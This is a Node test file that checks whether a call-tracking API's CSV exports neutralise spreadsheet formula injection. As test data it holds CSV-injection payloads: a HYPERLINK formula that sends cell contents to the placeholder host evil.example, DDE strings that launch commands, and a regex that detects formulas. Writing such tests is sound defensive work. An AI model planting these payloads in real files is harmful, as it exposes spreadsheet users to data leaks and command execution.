import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { DataSource } from 'typeorm';
import { openDataSource } from '@switchboard/persistence';
import { callRecordSaver } from '../support/call-records';
import { withKey } from '../support/accounts';
import { startApiOnly, type ApiOnly } from '../support/api-app';

/** RFC 4180 rows as a spreadsheet reads them (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

/** What a website visitor can put in a URL's utm parameters, referrer or landing page. */
const HOSTILE = {
  campaign: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  keyword: "+cmd|' /C calc'!A0",
  landingPage: "@SUM(1+1)*cmd|' /C calc'!A0",
  referrer: "-2+3+cmd|' /C calc'!A0",
  utmSource: '\t=1+1',
  utmMedium: '\r=1+1',
};

/** A cell a spreadsheet would evaluate: a formula start, unless the cell is a plain number. */
const FORMULA = /^[=@\t\r]|^[+-](?!\d+(\.\d+)?$)/;

describe('CSV exports cannot carry spreadsheet formulas (CSV injection)', () => {
  let api: ApiOnly;
  let ds: DataSource;
  let propertyId: string;

  before(async () => {
    api = await startApiOnly();
    ds = await openDataSource(api.dbUrl, 2);
    const p = await api.request('POST', '/v1/properties', { name: 'Bayside', timeZone: 'America/Chicago' });
    propertyId = p.body.id;
    const s = await api.request('POST', `/v1/properties/${propertyId}/sources`, { name: '=Website' });
    const n = await api.request('POST', `/v1/properties/${propertyId}/tracking-numbers`, {
      number: '+13125550144',
      sourceId: s.body.id,
      forwardTo: '+13125550111',
    });
    assert.equal(n.status, 201, JSON.stringify(n.body));
    await callRecordSaver(ds)({
      workflowId: 'call-csv-1',
      callSessionId: 'session-csv-1',
      callControlId: 'v3:csv-1',
      from: '+13125550100',
      to: '+13125550144',
      propertyId,
      trackingNumberId: n.body.id,
      sourceId: s.body.id,
      sourceName: '=Website',
      startedAt: '2026-01-10T18:00:00Z',
      answeredAt: '2026-01-10T18:00:04Z',
      endedAt: '2026-01-10T18:01:00Z',
      outcome: 'answered',
      answeredBy: null,
      hangupCause: 'normal_clearing',
      path: [],
      attribution: {
        kind: 'session',
        sessionId: null,
        keyword: HOSTILE.keyword,
        campaign: HOSTILE.campaign,
        landingPage: HOSTILE.landingPage,
        activePage: null,
        referrer: HOSTILE.referrer,
        utmSource: HOSTILE.utmSource,
        utmMedium: HOSTILE.utmMedium,
        utmCampaign: HOSTILE.campaign,
        utmTerm: HOSTILE.keyword,
        utmContent: null,
        priorCalls: 0,
      },
    });
  });
  after(async () => {
    await ds?.destroy();
    await api?.stop();
  });

  const csv = async (path: string) => {
    const res = await fetch(`${api.url}${path}`, { headers: withKey(api.apiKey, { accept: 'text/csv' }) });
    assert.equal(res.status, 200);
    return parseCsv(await res.text());
  };

  it('neutralises visitor-controlled values in the call log CSV, and phone numbers stay readable', async () => {
    const [header, row] = await csv(`/v1/calls?propertyId=${propertyId}`);
    const col = (name: string) => {
      assert.ok(header.includes(name), `column ${name}`);
      return row[header.indexOf(name)];
    };
    assert.equal(col('campaign'), `'${HOSTILE.campaign}`);
    assert.equal(col('keyword'), `'${HOSTILE.keyword}`);
    assert.equal(col('landingPage'), `'${HOSTILE.landingPage}`);
    assert.equal(col('referrer'), `'${HOSTILE.referrer}`);
    assert.equal(col('sourceName'), "'=Website");
    // A spreadsheet reads these as the numbers they are, not as formulas.
    assert.equal(col('fromNumber'), '+13125550100');
    assert.equal(col('toNumber'), '+13125550144');
    for (const cell of row) assert.doesNotMatch(cell, FORMULA);
  });

  it('neutralises them in the summary CSV too', async () => {
    const rows = await csv(
      `/v1/reports/calls/summary?from=2026-01-10&to=2026-01-11&propertyId=${propertyId}&groupBy=campaign`,
    );
    const cells = rows.slice(1).flat();
    assert.ok(cells.includes(`'${HOSTILE.campaign}`), JSON.stringify(rows));
    for (const cell of cells) assert.doesNotMatch(cell, FORMULA);
  });
});
